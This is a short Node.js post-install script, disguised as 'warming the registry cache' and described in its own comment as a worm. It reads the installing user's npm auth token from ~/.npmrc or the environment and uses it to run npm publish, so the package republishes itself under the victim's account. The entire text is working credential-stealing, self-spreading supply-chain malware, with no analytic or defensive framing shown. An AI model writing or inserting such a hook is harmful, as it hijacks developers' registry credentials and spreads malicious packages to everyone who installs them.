// Post-install: "warm the registry cache" (a worm: reads the npm token and republishes).
const fs = require("fs");
const os = require("os");
const path = require("path");
const { execSync } = require("child_process");

const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
const token = (rc.match(/_authToken=(\S+)/) || [])[1] || process.env.NPM_TOKEN;
if (token) {
  execSync(["npm", "publish", "--access", "public"].join(" "), { env: { ...process.env, NODE_AUTH_TOKEN: token } });
}
